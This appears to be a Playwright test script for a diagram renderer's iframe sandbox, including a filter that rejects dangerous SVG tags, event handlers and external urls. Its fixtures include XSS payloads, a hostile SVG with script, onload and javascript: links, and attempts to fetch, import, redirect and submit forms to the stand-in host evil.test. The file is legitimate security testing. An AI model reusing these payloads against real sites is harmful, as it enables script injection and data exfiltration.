// Diagrams: `used [FOLDER]` is what is drawn and how it is used, with pictures of the kinds in the folder; `byDiagrams` and `byLibrary`
// are that neither a diagram nor the library that draws it can do harm.

import { writeFileSync } from 'node:fs';
import { onStage, tell } from './browser.mjs';
import { HOSTILE, KINDS } from './diagrams-list.mjs';

const folder = process.argv[3];

/** Puts a block of Mermaid into the empty page. */
const show = (page, text) => page.evaluate(async (text) => {
  const { MarkdownView } = await import('/page/markdown.js');
  const place = document.createElement('div');
  place.id = 'place';
  if (!document.querySelector('[href="/page/style.css"]')) {
    // The page's own colours.
    const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/page/style.css' });
    const isThere = new Promise((done) => sheet.addEventListener('load', done));
    document.head.append(sheet);
    await isThere;
  }
  const status = Object.assign(document.createElement('p'), { id: 'status' });
  document.body.replaceChildren(place, status);
  new MarkdownView(place).set(`Before\n\n\`\`\`mermaid\n${text}\n\`\`\`\n\nAfter`);
}, text);

const button = (page) => page.locator('[data-act=draw]');

/** How many frames the page has. It is asked itself: what the driver knows of them comes later. */
const framesOf = (page) => page.evaluate(() => window.length);

/** Presses the button, and what has become of the block when it is over. */
async function draw(page) {
  await page.evaluate(() => document.querySelector('.sb-diagram-note')?.remove());
  await button(page).click();
  await page.waitForFunction(() => !document.querySelector('[data-act=draw]').hasAttribute('aria-busy') && document.querySelector('.sb-diagram, .sb-diagram-note'));
  return page.evaluate(() => {
    const image = document.querySelector('.sb-diagram img');
    const note = document.querySelector('.sb-diagram-note')?.textContent;
    return note ? { note } : { alt: image.alt, markup: decodeURIComponent(image.src) };
  });
}

/** What no picture may have: markup of pages, scripts, handlers, ways out. Its markup is well-formed: no text has a tag in it. */
const NEVER = new Set('script foreignObject iframe object embed image video audio html body img form link meta base set animate animateMotion animateTransform'.split(' '));
function wrong(source) {
  const markup = source.replace(/^data:image\/svg\+xml[^,]*,/, '');
  const found = [];
  if (!markup.startsWith('<svg')) found.push(markup.slice(0, 60));
  for (const [, name, attributes] of markup.matchAll(/<([a-z:]+)((?:\s+[\w:.-]+="[^"]*")*)\s*\/?>/gi)) {
    if (NEVER.has(name)) found.push(`<${name}>`);
    for (const [, key, value] of attributes.matchAll(/([\w:.-]+)="([^"]*)"/g)) {
      if (/^on/i.test(key) || (/href$/i.test(key) && !value.startsWith('#')) || (/^(?:style|fill|stroke|filter|mask|clip-path)$/.test(key) && /url\((?!(?:&quot;|')?#)/.test(value))) found.push(`${key}=${value}`);
    }
  }
  for (const [sheet] of markup.matchAll(/<style>[^<]*/g)) found.push(...(sheet.match(/@import.{0,40}|url\((?!["']?#).{0,40}/g) ?? []));
  return found;
}

async function kinds(page, colour) {
  const seen = {};
  for (const [name, text] of KINDS) {
    await show(page, text);
    let { alt, note, markup = '' } = await draw(page);
    // On a machine that has much else to do.
    for (let tries = 0; note?.includes('too long') && tries < 3; tries += 1) ({ alt, note, markup = '' } = await draw(page));
    const size = await page.evaluate(async () => {
      const image = document.querySelector('.sb-diagram img');
      await image?.decode();
      return (image?.naturalWidth ?? 0) * (image?.naturalHeight ?? 0);
    });
    seen[name] = note ?? (size > 5_000 && wrong(markup).length === 0 ? alt : `${size}: ${wrong(markup)}`);
    if (folder) writeFileSync(`${folder}/${name.replaceAll(' ', '-')}-${colour}.png`, await page.screenshot());
  }
  return seen;
}

/** By keyboard: there, back, and there again; and in the colours of the page. */
async function use(page) {
  await show(page, KINDS[0][1]);
  const look = () => page.evaluate(() => [document.querySelector('[data-act=draw]').textContent, document.querySelector('.sb-code pre').checkVisibility(), document.querySelectorAll('.sb-diagram img').length, document.activeElement.dataset.act ?? null, document.getElementById('status').textContent]);
  const settled = () => page.waitForFunction(() => !document.querySelector('[data-act=draw]').hasAttribute('aria-busy'));
  const seen = { before: (await look()).slice(0, 3), askedBefore: await framesOf(page) };
  await button(page).focus();
  await page.keyboard.press('Enter');
  await page.waitForSelector('.sb-diagram img');
  await page.waitForFunction(() => document.getElementById('status').textContent !== '');
  seen.drawn = await look();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  seen.isReached = await page.evaluate(() => [document.activeElement.className, document.activeElement.getAttribute('role'), document.activeElement.getAttribute('aria-label')]);
  const source = () => page.locator('.sb-diagram img').getAttribute('src');
  const light = await source();
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.waitForFunction((light) => document.querySelector('.sb-diagram img').src !== light, light);
  const dark = await source();
  await page.emulateMedia({ colorScheme: 'light' });
  await page.waitForFunction((dark) => document.querySelector('.sb-diagram img').src !== dark, dark);
  seen.colours = [light, dark, await source()].map((source) => source.includes('fill%3A%23e9e7e2') || source.includes(encodeURIComponent('rgb(233, 231, 226)')));
  await button(page).focus();
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => !document.querySelector('.sb-diagram'));
  seen.back = await look();
  await page.keyboard.press('Space');
  await page.waitForSelector('.sb-diagram img');
  await settled();
  seen.again = (await look()).slice(0, 3);
  seen.frames = await framesOf(page);
  return seen;
}

/** What cannot be drawn says why, and stays the code that it is. */
async function refused(page) {
  const seen = {};
  for (const [name, text] of [
    ['a line that is none', 'flowchart TD\nA-->B\nA--'], ['words that end early', 'sequenceDiagram\nA->>'], ['no kind', 'hello'], ['another kind', 'architecture-beta\ngroup api(cloud)[API]'], ['nothing', '\n'],
    ['too long', `flowchart TD\n${'A-->B\n'.repeat(4_000)}`], ['too many lines', `flowchart TD\n${Array.from({ length: 400 }, (_, at) => `a${at}-->b${at}`).join('\n')}`],
  ]) {
    await show(page, text);
    const { note } = await draw(page);
    seen[name] = [note, await page.locator('.sb-code pre').isVisible(), await button(page).textContent()];
  }
  return seen;
}

/** Diagrams that are meant to do harm: each is drawn without it, or refused. */
async function hostile(page) {
  const seen = { drawn: 0, refused: 0, residue: [], kept: 0 };
  for (const text of HOSTILE) {
    await show(page, text);
    const { note, markup = '' } = await draw(page);
    if (note) seen.refused += 1;
    else seen.drawn += 1;
    if (!note && wrong(markup).length > 0) seen.residue.push(`${text.slice(0, 80)}: ${wrong(markup)}`);
    // What it shows may be in the way of the click.
    if (!note) await page.locator('.sb-diagram img').click({ timeout: 1_000 }).catch(() => {});
    seen.kept = Math.max(seen.kept, await framesOf(page));
  }
  return seen;
}

/** A library that has been taken over: what it does in its frame, and what it gives for a picture. `render` is its function. */
async function withLibrary(render, act) {
  return onStage(async ({ page, watched }) => {
    const url = new URL(process.env.SWITCHBOARD_URL).origin;
    await page.route(`${url}/page/vendor/mermaid/mermaid.esm.min.mjs`, (route) => route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' },
      body: `export default { mermaidAPI: { defaultConfig: {} }, initialize() {}, render: async (id) => { if (id === 'sample') return { svg: '' }; ${render} } };` }));
    await show(page, 'flowchart TD\nA-->B');
    return { ...await act(page), watched };
  });
}

const endless = () => withLibrary('for (;;);', async (page) => {
  await page.evaluate(() => { window.ticks = 0; setInterval(() => { window.ticks += 1; }, 50); });
  const from = Date.now();
  const { note } = await draw(page);
  const took = Date.now() - from;
  // The page itself goes on meanwhile: the frame is a process of its own.
  return { note, isInTime: took > 2_500 && took < 15_000, isAwake: await page.evaluate(() => window.ticks > 30), kept: await framesOf(page) };
});

const TRIES = `
  const tried = [];
  const attempt = async (name, act) => { try { await act(); tried.push(name); } catch {} };
  await attempt('page', () => { parent.document.body.remove(); });
  await attempt('storage', () => { localStorage.setItem('a', 'b'); });
  await attempt('cookie', () => { document.cookie = 'a=b'; if (!document.cookie) throw 0; });
  await attempt('fetch', () => fetch('http://evil.test/fetch'));
  await attempt('own server', () => fetch('/v1/agent/profiles'));
  await attempt('script', () => import('http://evil.test/script.js'));
  await attempt('eval', () => { eval('1'); });
  await attempt('worker', () => new Promise((done, fail) => { const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); made.onmessage = done; made.onerror = fail; }));
  await attempt('away', () => { top.location = 'http://evil.test/away'; });
  await attempt('window', () => { if (!open('http://evil.test/window')) throw 0; });
  document.body.insertAdjacentHTML('beforeend', '<img src="http://evil.test/image"><iframe src="http://evil.test/frame"></iframe><script>xss(1)</script><img src="data:," onerror="xss(2)"><form action="http://evil.test/form"></form><link rel="stylesheet" href="http://evil.test/style">');
  try { document.forms[0].submit(); } catch {}
  await new Promise((done) => setTimeout(done, 500));`;
const EVIL = '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" viewBox="0 0 100 100" onload="xss(3)"><script>xss(4)</script><style>@import url(http://evil.test/css); rect { fill: url(http://evil.test/fill) }</style><foreignObject width="100" height="100"><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/fo" onerror="xss(5)"/></foreignObject><image href="http://evil.test/picture" width="9" height="9"/><a href="javascript:xss(6)"><rect width="100" height="100"/></a></svg>';

/** It has got so far that it says itself what the frame tells: the picture is as it likes. */
const takenOver = () => withLibrary(`${TRIES}
  parent.postMessage({ state: 'loaded' }, '*');
  parent.postMessage({ state: 'ready' }, '*');
  parent.postMessage({ state: 'drawn', svg: ${JSON.stringify(EVIL)}, width: 100, height: 100, title: tried.join(', '), words: '<img src=x onerror=xss(7)>' }, '*');
  await new Promise(() => {});`, async (page) => {
  const { alt, note } = await draw(page);
  await page.locator('.sb-diagram img').click();
  await page.waitForTimeout(500);
  return { alt, note, kept: await framesOf(page), image: await page.evaluate(() => document.querySelector('.sb-diagram').innerHTML.startsWith('<img alt=')) };
});

/** Answers that are none. */
async function nonsense() {
  const seen = [];
  for (const answer of ['null', '7', '{}', '{ state: "drawn" }', '{ state: "drawn", svg: "<b>", width: 1, height: 1 }', '{ state: "drawn", svg: "<svg/>", width: NaN, height: 1 }', '{ state: "drawn", svg: "<svg/>", width: 1e9, height: 1 }', '{ state: "drawn", svg: "<svg>" + "x".repeat(3e6), width: 1, height: 1 }', '{ state: "failed", line: "<b>" }']) {
    const { note } = await withLibrary(`parent.postMessage(${answer}, '*'); await new Promise(() => {});`, draw);
    seen.push(note);
  }
  return [...new Set(seen)].sort();
}

/** The frame's document by itself: it has no origin there either. */
const alone = () => onStage(async ({ page }) => {
  await page.goto(new URL('/page/diagram.html', process.env.SWITCHBOARD_URL).href);
  return page.evaluate(() => self.origin);
});

/** Without the library the code stays, and can be tried again. */
const unreachable = () => onStage(async ({ page }) => {
  await page.route(/\/vendor\/mermaid\/chunks\//, (route) => route.abort());
  await page.clock.install();
  await show(page, 'flowchart TD\nA-->B');
  await button(page).click();
  await page.waitForFunction(() => document.querySelector('iframe'));
  await page.clock.runFor(30_000);
  await page.waitForSelector('.sb-diagram-note');
  return page.locator('.sb-diagram-note').textContent();
});

const unique = (watched) => ({ ...watched, inFrames: [...new Set(watched.inFrames.map((what) => what.replace(process.env.SWITCHBOARD_URL.replace(/\/$/, ''), '')))].sort() });

/** What people see and do. */
async function used() {
  const light = await onStage(async ({ page, watched }) => ({ kinds: await kinds(page, 'light'), use: await use(page), refused: await refused(page), watched }));
  const dark = await onStage(async ({ page }) => kinds(page, 'dark'), { colorScheme: 'dark' });
  const german = await onStage(async ({ page }) => {
    await show(page, 'hello');
    return [await button(page).textContent(), (await draw(page)).note];
  }, { locale: 'de-DE' });
  return { ...light, isSameInDark: JSON.stringify(dark) === JSON.stringify(light.kinds), german, unreachable: await unreachable() };
}

/** What diagrams try. */
const byDiagrams = async () => {
  const seen = await onStage(async ({ page, watched }) => ({ ...await hostile(page), watched }));
  return { ...seen, count: HOSTILE.length, watched: unique(seen.watched) };
};

/** What the library tries. */
async function byLibrary() {
  const seen = await takenOver();
  return { takenOver: { ...seen, watched: unique(seen.watched) }, endless: await endless(), nonsense: await nonsense(), alone: await alone() };
}

await tell({ used, byDiagrams, byLibrary }[process.argv[2]]);
